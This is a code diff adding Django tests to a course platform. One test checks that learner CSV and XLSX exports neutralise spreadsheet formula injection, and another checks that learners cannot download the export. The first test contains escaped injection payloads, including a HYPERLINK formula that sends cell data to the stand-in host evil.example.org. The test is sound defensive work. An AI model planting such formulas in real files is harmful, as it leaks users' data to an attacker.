@@ -15,6 +15,7 @@ from django.utils import timezone
 
 from karma.accounts.models import Invitation, Role, User
 from karma.accounts.tests.factories import LearnerFactory
+from karma.audit.models import AuditEvent, AuditKind
 from karma.courses.tests.factories import PublishedCourseFactory
 from karma.enrollments.models import (
     BulkJobStatus,
@@ -281,3 +282,49 @@ def test_case_15_large_file(mode):
         assert Invitation.objects.count() == 9_999
     assert added(second) == 0
     assert second.counts[RowOutcome.ALREADY_ENROLLED] == 9_999
+
+
+@pytest.mark.django_db
+def test_case_18_learner_export_neutralises_formulas(client, admin):
+    import csv
+    import io
+
+    from django.urls import reverse
+    from openpyxl import load_workbook
+
+    course = PublishedCourseFactory(owner=admin)
+    run_file(course, "case-18-formula-injection.csv", policy=UnknownEmailPolicy.INVITE)
+    client.force_login(admin)
+
+    csv_response = client.get(
+        reverse("enrollments:learners_export_csv", args=[course.public_id])
+    )
+    xlsx_response = client.get(
+        reverse("enrollments:learners_export_xlsx", args=[course.public_id])
+    )
+
+    raw = b"".join(csv_response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
+    cells = [str(c) for row in rows[1:] for c in row] + [
+        str(c.value) for row in sheet.iter_rows(min_row=2) for c in row if c.value
+    ]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert '\'=HYPERLINK("http://evil.example.org/?d="&A1,"open")' in cells
+    assert "'+SUM(1+1)" in cells and "'@cmd" in cells and "'-2+3" in cells
+    assert AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED).count() == 2
+
+
+@pytest.mark.django_db
+def test_learner_export_is_refused_to_learners(learner_client):
+    from django.urls import reverse
+
+    course = PublishedCourseFactory()
+
+    response = learner_client.get(
+        reverse("enrollments:learners_export_csv", args=[course.public_id])
+    )
+
+    assert response.status_code in (403, 404)
